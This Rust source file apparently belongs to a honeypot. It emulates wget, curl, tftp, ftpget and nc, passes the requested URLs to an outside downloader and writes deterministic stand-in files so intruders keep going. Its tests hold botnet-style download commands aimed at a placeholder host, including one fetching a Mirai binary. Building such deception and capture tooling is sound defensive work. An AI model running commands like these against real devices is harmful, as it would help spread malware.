//! Programs that fetch from elsewhere. Nothing is fetched here: the address goes to the downloader outside ([`Context::download`]), and a
//! file appears that stands for what would have come, so that the visitor's dialogue goes on.
//!
//! [`Context::download`]: crate::handlers::Context::download

use std::hash::{DefaultHasher, Hash, Hasher};

use super::super::file_system::base_name;
use super::super::run::{Io, Run, TERMINAL};
use super::super::tree::Content;
use super::{has_flag, lossy, operands_beside, usage, value_of};
use crate::handlers::Random;

/// Lengths of what stands for a fetched file: those of bots.
const LENGTHS: std::ops::RangeInclusive<u64> = 31_000..=92_000;

/// The same address always gives the same file.
fn stand_in(url: &str) -> (Content, u32) {
    let mut hasher = DefaultHasher::new();
    url.hash(&mut hasher);
    let seed = hasher.finish();
    let len = u32::try_from(Random::new(seed).within(&LENGTHS)).unwrap_or(40_000);
    (Content::StandIn { len, seed }, len)
}

/// Where a fetched file goes.
enum Target<'t> {
    Output,
    File(&'t [u8]),
}

/// Has an address fetched; the length of what stands for the file, `None` when it could not be written.
fn fetch(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io, url: &str, tool: &str, target: &Target<'_>) -> Option<u32> {
    run.cx.download(url, tool);
    run.wait_about(180, 900);
    let (content, len) = stand_in(url);
    let (path, shown) = match target {
        Target::File(name) => (run.path(name), *name),
        Target::Output => match run.sink_file(io.out) {
            Some(path) => (path, &b""[..]),
            None => return Some(0),
        },
    };
    let is_special = run.files.find(&path).is_ok_and(|(_, node)| node.full_mode() & 0o170_000 == 0o020_000);
    if is_special {
        return Some(len);
    }
    match run.files.write(&path, content, false) {
        Ok(()) => Some(len),
        Err(fault) => {
            run.fail_at(io, words, "can't open", shown, fault);
            None
        }
    }
}

/// The name under which an address is stored: what follows its last slash.
fn file_name(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let path = rest.split(['?', '#']).next().unwrap_or(rest);
    match path.split_once('/') {
        Some((_, path)) => path.rsplit('/').next().filter(|name| !name.is_empty()).unwrap_or("index.html"),
        None => "index.html",
    }
}

/// Host and port of an address.
fn host_and_port(url: &str) -> (String, u16) {
    let (scheme, rest) = url.split_once("://").unwrap_or(("http", url));
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let default = match scheme {
        "https" => 443,
        "ftp" => 21,
        _ => 80,
    };
    match host.rsplit_once(':') {
        Some((host, port)) if !host.ends_with(':') => (host.to_owned(), port.parse().unwrap_or(default)),
        _ => (host.to_owned(), default),
    }
}

/// An address with its scheme.
fn with_scheme(address: &[u8]) -> String {
    let text = lossy(address);
    if text.contains("://") { text } else { format!("http://{text}") }
}

/// `-O FILE`, `-OFILE` and `-qO-`: the value of a letter that may stand last in a bundle.
fn bundled(words: &[Vec<u8>], flag: u8) -> Option<&[u8]> {
    for (at, word) in words.iter().enumerate().skip(1) {
        if !word.starts_with(b"-") || word.starts_with(b"--") {
            continue;
        }
        if let Some(place) = word.iter().position(|&b| b == flag) {
            return match word.get(place + 1..) {
                Some([]) | None => words.get(at + 1).map(Vec::as_slice),
                value => value,
            };
        }
    }
    None
}

/// Letters of wget's and curl's options that take a value.
const OF_WGET: &[u8] = b"OoPUTtY";
const OF_CURL: &[u8] = b"oHXdAumeFTbxcCDEKPQrtUwyYz";

/// The addresses that a command would fetch, one that starts with the tool's name.
pub(in crate::handlers) fn named_addresses(words: &[Vec<u8>]) -> Vec<String> {
    let schemed = |addresses: Vec<&[u8]>| addresses.into_iter().map(with_scheme).collect();
    match words.first().map_or(&b""[..], |word| base_name(word)) {
        b"wget" => match (value_of(words, b'g'), value_of(words, b'r')) {
            // That of Huawei's routers.
            (Some(host), Some(remote)) => {
                vec![format!("http://{}/{}", lossy(host), lossy(remote).trim_start_matches('/'))]
            }
            _ => schemed(addresses(words, OF_WGET)),
        },
        b"curl" => schemed(addresses(words, OF_CURL)),
        b"tftp" => over_tftp(words).map(|(url, _)| url).into_iter().collect(),
        b"ftpget" => over_ftp(words).map(|(url, _)| url).into_iter().collect(),
        _ => Vec::new(),
    }
}

/// Arguments that are neither options nor the values of options; a bundle's last letter may take one.
fn addresses<'w>(words: &'w [Vec<u8>], with_values: &[u8]) -> Vec<&'w [u8]> {
    let mut found = Vec::new();
    let mut skip = false;
    for word in words.iter().skip(1) {
        match word.as_slice() {
            _ if skip => skip = false,
            word if word.starts_with(b"--") => {
                skip = !word.contains(&b'=')
                    && matches!(
                        word,
                        b"--header"
                            | b"--post-data"
                            | b"--user-agent"
                            | b"--output-document"
                            | b"--output"
                            | b"--max-time"
                            | b"--connect-timeout"
                    );
            }
            [b'-', .., last] => skip = with_values.contains(last),
            [] | [b'-'] => {}
            word => found.push(word),
        }
    }
    found
}

pub(super) fn wget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
    let urls = addresses(words, OF_WGET);
    if urls.is_empty() {
        return usage(run, "wget", io);
    }
    let quiet =
        words.iter().skip(1).any(|word| word.starts_with(b"-") && !word.starts_with(b"--") && word.contains(&b'q'));
    let output = bundled(words, b'O');
    let directory = value_of(words, b'P');
    for url in urls {
        let url = with_scheme(url);
        if !["http://", "https://", "ftp://"].iter().any(|scheme| url.starts_with(scheme)) {
            return run.fail(io, words, &format!("not an http or ftp url: {url}"));
        }
        let (host, port) = host_and_port(&url);
        let name = file_name(&url).to_owned();
        let path = match (output, directory) {
            (Some(output), _) => output.to_vec(),
            (None, Some(directory)) => [directory, b"/", name.as_bytes()].concat(),
            (None, None) => name.clone().into_bytes(),
        };
        let target = if path == b"-" { Target::Output } else { Target::File(&path) };
        if !quiet {
            run.print_line(io.err, &format!("Connecting to {host} ({host}:{port})"));
        }
        let Some(len) = fetch(run, words, io, &url, "wget", &target) else { return 1 };
        if !quiet && len > 0 {
            let shown = if path == b"-" { "-".to_owned() } else { lossy(base_name(&path)) };
            let shown: String = shown.chars().take(20).collect();
            run.print(
                io.err,
                format!("{shown:<20} 100% |*******************************| {len:>5}   0:00:00 ETA\n").as_bytes(),
            );
        }
    }
    0
}

pub(super) fn curl(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
    let urls = addresses(words, OF_CURL);
    if urls.is_empty() {
        run.print_line(io.err, "curl: try 'curl --help' or 'curl --manual' for more information");
        return 2;
    }
    let quiet = has_flag(words, b's') || has_flag(words, b'f');
    let output = value_of(words, b'o').or_else(|| bundled(words, b'o').filter(|_| has_flag(words, b'o')));
    for url in urls {
        let url = with_scheme(url);
        let name = file_name(&url).to_owned();
        let target = match output {
            Some(b"-") => Target::Output,
            Some(output) => Target::File(output),
            None if has_flag(words, b'O') => Target::File(name.as_bytes()),
            None => Target::Output,
        };
        let Some(len) = fetch(run, words, io, &url, "curl", &target) else { return 23 };
        let to_terminal = matches!(target, Target::Output) && io.out == TERMINAL;
        if !quiet && !to_terminal {
            run.print(
                io.err,
                format!("  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n                                 Dload  Upload   Total   Spent    Left  Speed\n100 {len:>5}  100 {len:>5}    0     0  {:>5}      0 --:--:-- --:--:-- --:--:-- {:>5}\n", len * 2, len * 2).as_bytes(),
            );
        }
    }
    0
}

/// The address and the local file of BusyBox's `tftp -g -l LOCAL -r REMOTE HOST`, and of others' `tftp HOST -c get REMOTE [LOCAL]`.
fn over_tftp(words: &[Vec<u8>]) -> Option<(String, &[u8])> {
    let plain: Vec<&[u8]> = words.iter().skip(1).map(Vec::as_slice).collect();
    let get = plain.iter().position(|word| *word == b"get");
    let (host, port, remote, local) = if let Some(at) = get {
        let host = plain.iter().take(at).find(|word| !word.starts_with(b"-"));
        let remote = plain.get(at + 1);
        (host.copied(), None, remote.copied(), plain.get(at + 2).copied())
    } else {
        let operands = operands_beside(words, b"lrb");
        let (remote, local) = (value_of(words, b'r'), value_of(words, b'l'));
        (operands.first().copied(), operands.get(1).copied(), remote.or(local), local)
    };
    let (host, remote) = (host?, remote?);
    let port = port.map_or_else(String::new, |port| format!(":{}", lossy(port)));
    let url = format!("tftp://{}{port}/{}", lossy(host), lossy(remote).trim_start_matches('/'));
    Some((url, local.unwrap_or_else(|| base_name(remote))))
}

pub(super) fn tftp(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
    let Some((url, local)) = over_tftp(words) else { return usage(run, "tftp", io) };
    if has_flag(words, b'p') && !has_flag(words, b'g') {
        run.wait_about(300, 1_200);
        return run.fail(io, words, "timeout");
    }
    let target = if local == b"-" { Target::Output } else { Target::File(local) };
    u8::from(fetch(run, words, io, &url, "tftp", &target).is_none())
}

/// The address and the local file of `ftpget HOST [LOCAL] REMOTE`.
fn over_ftp(words: &[Vec<u8>]) -> Option<(String, &[u8])> {
    let operands = operands_beside(words, b"upP");
    let (host, local, remote) = match operands.as_slice() {
        [host, remote] => (*host, base_name(remote), *remote),
        [host, local, remote, ..] => (*host, *local, *remote),
        _ => return None,
    };
    let login = match (value_of(words, b'u'), value_of(words, b'p')) {
        (Some(user), Some(password)) => format!("{}:{}@", lossy(user), lossy(password)),
        (Some(user), None) => format!("{}@", lossy(user)),
        _ => String::new(),
    };
    let port = value_of(words, b'P').map_or_else(String::new, |port| format!(":{}", lossy(port)));
    Some((format!("ftp://{login}{}{port}/{}", lossy(host), lossy(remote).trim_start_matches('/')), local))
}

pub(super) fn ftpget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
    let Some((url, local)) = over_ftp(words) else { return usage(run, "ftpget", io) };
    let target = if local == b"-" { Target::Output } else { Target::File(local) };
    u8::from(fetch(run, words, io, &url, "ftpget", &target).is_none())
}

/// `nc HOST PORT > FILE` fetches; a connection that would be talked over is refused.
pub(super) fn nc(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
    let operands = operands_beside(words, b"iwpfe");
    let (Some(host), Some(port)) = (operands.first().map(|host| lossy(host)), operands.get(1).map(|port| lossy(port)))
    else {
        return usage(run, "nc", io);
    };
    if run.sink_file(io.out).is_some() {
        return u8::from(fetch(run, words, io, &format!("tcp://{host}:{port}"), "nc", &Target::Output).is_none());
    }
    run.wait_about(200, 1_500);
    run.fail(io, words, &format!("can't connect to remote host ({host}): Connection refused"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Vec<u8>> {
        line.split(' ').map(|word| word.as_bytes().to_vec()).collect()
    }

    #[test]
    fn every_tool_says_what_it_would_fetch() {
        for (line, url) in [
            ("/bin/wget 192.0.2.9/x", "http://192.0.2.9/x"),
            ("wget -g 192.0.2.9 -l /tmp/x -r /bins/x", "http://192.0.2.9/bins/x"),
            ("curl -k https://192.0.2.9/x", "https://192.0.2.9/x"),
            ("curl -sSLo /tmp/x 192.0.2.9/x", "http://192.0.2.9/x"),
            ("tftp -g -l x -r a/x 192.0.2.9", "tftp://192.0.2.9/a/x"),
            ("tftp 192.0.2.9 -c get x", "tftp://192.0.2.9/x"),
            ("ftpget -u a -p b 192.0.2.9 x y", "ftp://a:b@192.0.2.9/y"),
        ] {
            assert_eq!(named_addresses(&words(line)), [url], "{line}");
        }
        assert!(named_addresses(&words("tftp")).is_empty() && named_addresses(&words("ls http://x/")).is_empty());
    }

    #[test]
    fn addresses_and_their_files_are_found_among_options() {
        let line = words("wget -q http://192.0.2.9:81/bins/mirai.arm -O - --header X:y");
        assert_eq!(addresses(&line, OF_WGET), [b"http://192.0.2.9:81/bins/mirai.arm"]);
        assert_eq!(bundled(&line, b'O'), Some(&b"-"[..]));
        assert_eq!(bundled(&words("wget -qO- x"), b'O'), Some(&b"-"[..]));
        assert_eq!(file_name("http://192.0.2.9/a/b.sh?c=/d"), "b.sh");
        assert_eq!(file_name("http://192.0.2.9"), "index.html");
        assert_eq!(host_and_port("http://u:p@192.0.2.9:81/x"), ("192.0.2.9".to_owned(), 81));
    }
}
